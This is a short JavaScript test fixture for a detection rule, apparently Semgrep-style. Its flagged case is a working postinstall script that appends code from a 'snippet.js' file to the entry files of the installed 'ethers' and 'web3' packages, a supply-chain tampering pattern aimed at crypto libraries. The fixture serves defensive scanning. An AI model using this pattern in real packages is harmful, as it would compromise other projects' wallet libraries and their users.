// fixture: install-time
// A postinstall that appends code to other installed packages' entry files.
const fs = require('fs');
const path = require('path');
// ruleid: patches_installed_packages critical
const ROOT = path.resolve(__dirname, '..', '..');
for (const t of ['ethers', 'web3']) {
  const pkg = JSON.parse(fs.readFileSync(path.join(ROOT, t, 'package.json'), 'utf8'));
  fs.appendFileSync(path.join(ROOT, t, pkg.main || 'index.js'), '\n' + fs.readFileSync(path.join(__dirname, 'snippet.js'), 'utf8'));
}
// ok: patches_installed_packages
const own = path.join(__dirname, 'build', 'config.json');
